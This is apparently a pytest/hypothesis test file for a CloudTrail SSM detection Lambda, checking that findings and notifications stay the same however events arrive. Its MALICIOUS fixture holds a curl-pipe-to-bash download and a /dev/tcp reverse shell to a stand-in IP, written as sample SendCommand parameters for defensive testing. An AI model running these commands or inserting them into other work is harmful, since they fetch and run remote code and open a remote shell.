"""Arrival order does not change what the analyst gets (issue 17, "What to build").

For a generated stream of CloudTrail events (several principals, repeats of the same call,
commands whose visible parameters raise the severity, fan-outs, document creations, creations
followed by runs of the new document), the real handler is run twice against DynamoDB Local:
once on the events in event-time order, one at a time; once on a permutation of them within a
bounded lateness (each event delayed by up to `LATENESS`), with random duplicate deliveries,
invoked `CONCURRENCY` at a time from threads released together (as the reliability suite does).
Both runs must give:
- the same Security Hub records (the strict double keeps the import with the newest UpdatedAt,
  as Security Hub does): the same ids, counts, event ids, severities, times, descriptions and
  fields, all but CreatedAt / UpdatedAt (the wall clock);
- the same notifications: the same windows notified, each at the same final level, and within
  a window each level at most once and in rising order. (Escalations are arrival-dependent by
  nature: HIGH then CRITICAL in order is two messages; CRITICAL first makes HIGH moot.)

The stateful blocks (first-seen for creations, distinct-in-window for fan-outs, correlation for
chains) decide *which firings exist*; delivery decides what the firings become. The properties:
1. the detections that decide on the event alone (SendCommand, its content escalation): full
   equality;
2. fan-outs too: full equality (a window a late event completes is decided again, complete, and
   the complete decision leads its record);
3. fan-outs, creations and chains: delivery's own invariants;
4. (`make chaos` only, expected to fail) creations and chains with full equality: first-seen
   decides on what has arrived and never retracts, so a creation judged before an earlier one of
   the same principal arrives adds a rare-creator finding (`state/first_seen.py` states it).
RelatedFindings is not compared: it links the findings decided in one delivery, and a window a
late event completes is decided with that event's findings.

Examples per run: `SSM_DETECT_ORDER_EXAMPLES` (3 by default, streams of up to 8 acts, for `make
test`); `make chaos` runs 60 per property with streams of up to 14 acts, plus the stateful
full-equality check.
"""

from __future__ import annotations

import os
import threading
import time
from collections import defaultdict
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ssm_detect.findings import Finding, Severity
from ssm_detect.local_context import LocalLambdaContext
from ssm_detect.wiring import AwsClients, lambda_runtime
from tests.builders import T0, create_document, envelope, send_command
from tests.fakes import StrictSecurityHub

if TYPE_CHECKING:
    from tests.dynamodb_local import DynamoDbLocal

pytest_plugins = ["tests.dynamodb_local"]

EXAMPLES = int(os.environ.get("SSM_DETECT_ORDER_EXAMPLES", "3"))
CHAOS = os.environ.get("SSM_DETECT_CHAOS") == "1"
LATENESS = timedelta(minutes=5)
CONCURRENCY = int(os.environ.get("SSM_DETECT_ORDER_CONCURRENCY", "4"))
ACCOUNT = "111122223333"
FUNCTION_ACCOUNT = "000000000000"
ROLES = ("OrderOpsA", "OrderOpsB", "OrderOpsC")
FLEET = tuple(f"i-0{n:016x}" for n in range(1, 7))
MALICIOUS = {
    "commands": [
        "curl -s http://203.0.113.9/x.sh | bash",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ]
}


# --- the stream ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Act:
    kind: str
    """command | escalating | fanout | create | chain"""
    role: int
    minute: int
    instances: tuple[str, ...] = ()
    document: str = ""


def _as(record: dict[str, Any], role: str) -> dict[str, Any]:
    identity = record["userIdentity"]
    identity["arn"] = f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/session"
    identity["accountId"] = ACCOUNT
    issuer = identity.get("sessionContext", {}).get("sessionIssuer")
    if issuer is not None:
        issuer["arn"] = f"arn:aws:iam::{ACCOUNT}:role/{role}"
        issuer["userName"] = role
    record["recipientAccountId"] = ACCOUNT
    return record


def records(acts: Sequence[Act]) -> list[dict[str, Any]]:
    """The CloudTrail records the acts make, each with its own event id and time."""
    made: list[dict[str, Any]] = []
    for n, act in enumerate(acts):
        at = T0 + timedelta(minutes=act.minute, seconds=n)
        role = ROLES[act.role]
        if act.kind in {"create", "chain"}:
            made.append(_as(create_document(event_id=f"ev-{n}-c", at=at, name=act.document), role))
        if act.kind == "create":
            continue
        record = send_command(list(act.instances or FLEET[:1]), event_id=f"ev-{n}", at=at)
        if act.kind == "chain":
            record["eventTime"] = (at + timedelta(minutes=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
            record["requestParameters"]["documentName"] = act.document
        if act.kind == "escalating":
            record["requestParameters"]["parameters"] = MALICIOUS
        made.append(_as(record, role))
    return made


def _act(kinds: Sequence[str]) -> st.SearchStrategy[Act]:
    return st.builds(
        Act,
        kind=st.sampled_from(kinds),
        role=st.integers(0, len(ROLES) - 1),
        minute=st.integers(0, 150),  # two and a half hours: windows and their boundaries
        instances=st.lists(st.sampled_from(FLEET), min_size=1, max_size=4, unique=True).map(tuple),
        document=st.sampled_from(("Ops-A", "Ops-B", "Ops-C")),
    )


@dataclass(frozen=True)
class Stream:
    events: list[dict[str, Any]]
    """In event-time order."""
    arrival: list[int]
    """Indexes into `events`, in the order they arrive (duplicates included)."""


@st.composite
def streams(draw: st.DrawFn, kinds: Sequence[str]) -> Stream:
    acts = draw(st.lists(_act(kinds), min_size=4, max_size=14 if CHAOS else 8))
    # stateless acts get the same instance so that they never add up to a fan-out
    acts = [
        a if a.kind == "fanout" else Act(a.kind, a.role, a.minute, FLEET[:1], a.document)
        for a in acts
    ]
    made = sorted(records(acts), key=lambda r: (r["eventTime"], r["eventID"]))
    lateness = int(LATENESS.total_seconds())
    delays = draw(st.lists(st.integers(0, lateness), min_size=len(made), max_size=len(made)))
    arrival = sorted(
        range(len(made)),
        key=lambda i: (_epoch(made[i]) + delays[i], i),
    )
    repeats = draw(st.lists(st.integers(0, len(made) - 1), max_size=max(1, len(made) // 4)))
    for index in repeats:  # a duplicate delivery, somewhere within the lateness after the first
        first = arrival.index(index)
        spot = draw(st.integers(first, min(len(arrival), first + 4)))
        arrival.insert(spot, index)
    return Stream([envelope(r) for r in made], arrival)


def _epoch(record: dict[str, Any]) -> int:
    return int(datetime.fromisoformat(record["eventTime"].replace("Z", "+00:00")).timestamp())


# --- running a stream through the handler ---------------------------------------------------------


@dataclass
class Outcome:
    records: dict[str, dict[str, Any]]
    """Security Hub's final record per finding id, without CreatedAt / UpdatedAt."""
    levels: dict[str, list[int]] = field(default_factory=dict)
    """Per window (finding id), the severity ranks notified, in the order they were sent."""
    related: dict[str, set[str]] = field(default_factory=dict)
    """Per finding id, the ids its RelatedFindings name."""


class _Notifier:
    name = "sns"

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.sent: list[Finding] = []

    def send(self, findings: Sequence[Finding]) -> None:
        with self.lock:
            self.sent.extend(findings)


class _LockedHub(StrictSecurityHub):
    def __init__(self, account: str) -> None:
        super().__init__(account)
        self.lock = threading.Lock()

    def batch_import_findings(self, *, Findings: list[dict[str, object]]) -> dict[str, object]:  # noqa: N803
        with self.lock:
            return super().batch_import_findings(Findings=Findings)


def run(server: DynamoDbLocal, events: list[dict[str, Any]], arrival: list[int]) -> Outcome:
    """`events` in `arrival` order through the real handler, `CONCURRENCY` at a time."""
    from handler import app  # noqa: PLC0415

    table = server.fresh_table("order")
    hub, notifier = _LockedHub(FUNCTION_ACCOUNT), _Notifier()
    env = {"STATE_TABLE_NAME": table, "SECURITY_HUB_ENABLED": "true", "AWS_REGION": "us-east-1"}
    clients = AwsClients(dynamodb=server.client(), securityhub=hub)  # type: ignore[arg-type]
    runtime = lambda_runtime(env, app.logger, FUNCTION_ACCOUNT, clients)
    runtime.dispatcher.notifiers = (notifier,)
    errors: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(app, "runtime", lambda _account: runtime)
        # Powertools' Metrics is not thread-safe; what is under test is state and delivery
        patch.setattr(app, "publish_metrics", lambda metrics, summary: None)
        for start in range(0, len(arrival), CONCURRENCY):
            chunk = arrival[start : start + CONCURRENCY]
            barrier = threading.Barrier(len(chunk))

            def invoke(index: int, barrier: threading.Barrier = barrier) -> None:
                barrier.wait()
                _invoke_as_lambda(app, events[index], errors)

            threads = [threading.Thread(target=invoke, args=(i,)) for i in chunk]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
    assert not errors, errors
    levels: dict[str, list[int]] = defaultdict(list)
    for finding in notifier.sent:
        levels[finding.id].append(finding.severity.rank)
    kept = {fid: _comparable(record) for fid, record in hub.findings.items()}
    related = {
        fid: {str(r["Id"]) for r in record.get("RelatedFindings", ())}  # type: ignore[attr-defined]
        for fid, record in hub.findings.items()
    }
    return Outcome(kept, dict(levels), related)


def _comparable(record: dict[str, Any]) -> dict[str, Any]:
    """The record without what is not a function of the events: CreatedAt / UpdatedAt (the wall
    clock) and RelatedFindings (the findings decided in the same delivery: a window that a late
    event completes is decided with that event's findings, not with its own event's)."""
    kept = {
        k: v for k, v in record.items() if k not in {"CreatedAt", "UpdatedAt", "RelatedFindings"}
    }
    provider = dict(kept.get("FindingProviderFields", {}))
    provider.pop("RelatedFindings", None)
    kept["FindingProviderFields"] = provider
    return kept


LAMBDA_ATTEMPTS = 3  # an async invocation: the first try and Lambda's two retries


def _invoke_as_lambda(app: Any, event: dict[str, Any], errors: list[str]) -> None:
    """One event as Lambda runs it: retried under the same request id when it fails (an
    import can fail for real under concurrency: Security Hub refuses to create a finding from
    a later firing's import before the first firing's creation has landed)."""
    context = LocalLambdaContext()
    failures = []
    for _ in range(LAMBDA_ATTEMPTS):
        try:
            app.lambda_handler(event, context)
        except Exception as error:  # noqa: BLE001 - Lambda's view: any exception fails
            failures.append(f"{type(error).__name__}: {error}")
            time.sleep(0.2)  # Lambda retries after a minute or more; the others go on
            continue
        return
    errors.extend(failures)


def in_order(stream: Stream) -> list[int]:
    return list(range(len(stream.events)))


# --- the properties -------------------------------------------------------------------------------


def check_delivery_invariants(outcome: Outcome) -> None:
    """What delivery promises whatever firings the detections decide: within a window each level
    is notified at most once and in rising order, and the record's severity is the highest
    level notified."""
    for fid, levels in outcome.levels.items():
        assert levels == sorted(set(levels)), (fid, levels)
        record = outcome.records[fid]
        assert Severity(record["Severity"]["Label"]).rank == max(levels), fid
    for fid, related in outcome.related.items():
        assert related <= outcome.records.keys(), (fid, related - outcome.records.keys())
    for fid, record in outcome.records.items():
        assert fid in outcome.levels, f"{fid} recorded but never notified"
        count = int(record["ProductFields"]["ssm-detect/count"])
        assert count >= 1


def check_same_as_in_order(expected: Outcome, got: Outcome) -> None:
    assert sorted(got.records) == sorted(expected.records)
    for fid, record in expected.records.items():
        differs = {
            key: (record.get(key), got.records[fid].get(key))
            for key in record.keys() | got.records[fid].keys()
            if record.get(key) != got.records[fid].get(key)
        }
        assert not differs, (fid, differs)
    assert sorted(got.levels) == sorted(expected.levels)
    for fid, levels in expected.levels.items():
        assert max(got.levels[fid]) == max(levels), fid


_SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    # No shrinking: each step replays a stream through DynamoDB Local twice, and shrinking a
    # concurrent failure ran past five minutes; the failing stream is printed as found.
    phases=(Phase.explicit, Phase.reuse, Phase.generate),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@_SETTINGS
@given(stream=streams(("command", "command", "escalating")))
def test_arrival_order_does_not_change_findings_notifications_or_records(
    dynamodb_local: DynamoDbLocal, stream: Stream
) -> None:
    """Detections that decide on the event alone (SendCommand, its content escalation)."""
    expected = run(dynamodb_local, stream.events, in_order(stream))
    got = run(dynamodb_local, stream.events, stream.arrival)
    check_delivery_invariants(expected)
    check_delivery_invariants(got)
    check_same_as_in_order(expected, got)


@_SETTINGS
@given(stream=streams(("command", "escalating", "fanout", "create", "chain")))
def test_arrival_order_keeps_the_delivery_invariants_with_stateful_detections(
    dynamodb_local: DynamoDbLocal, stream: Stream
) -> None:
    """Fan-outs, creations and chains too: delivery's own promises hold for any firings."""
    check_delivery_invariants(run(dynamodb_local, stream.events, stream.arrival))


@_SETTINGS
@given(stream=streams(("command", "escalating", "fanout")))
def test_arrival_order_with_fanouts_gives_the_in_order_findings(
    dynamodb_local: DynamoDbLocal, stream: Stream
) -> None:
    """Fan-outs (the distinct-in-window block): a window completed by a late event is decided
    complete whatever the order, and its record is the complete decision."""
    expected = run(dynamodb_local, stream.events, in_order(stream))
    got = run(dynamodb_local, stream.events, stream.arrival)
    check_same_as_in_order(expected, got)


@pytest.mark.skipif(not CHAOS, reason="make chaos only (SSM_DETECT_CHAOS=1)")
@pytest.mark.xfail(
    reason="first-seen (the rare creator) decides on what has arrived: a creation judged before "
    "an earlier one of the same principal arrives is judged first too, and a verdict is never "
    "retracted, so out of order a late arrival can add a rare-creator finding and move a chain "
    "onto it (state/first_seen.py)",
    strict=False,
)
@_SETTINGS
@given(stream=streams(("command", "escalating", "fanout", "create", "chain")))
def test_arrival_order_with_stateful_detections_gives_the_in_order_findings(
    dynamodb_local: DynamoDbLocal, stream: Stream
) -> None:
    expected = run(dynamodb_local, stream.events, in_order(stream))
    got = run(dynamodb_local, stream.events, stream.arrival)
    check_same_as_in_order(expected, got)
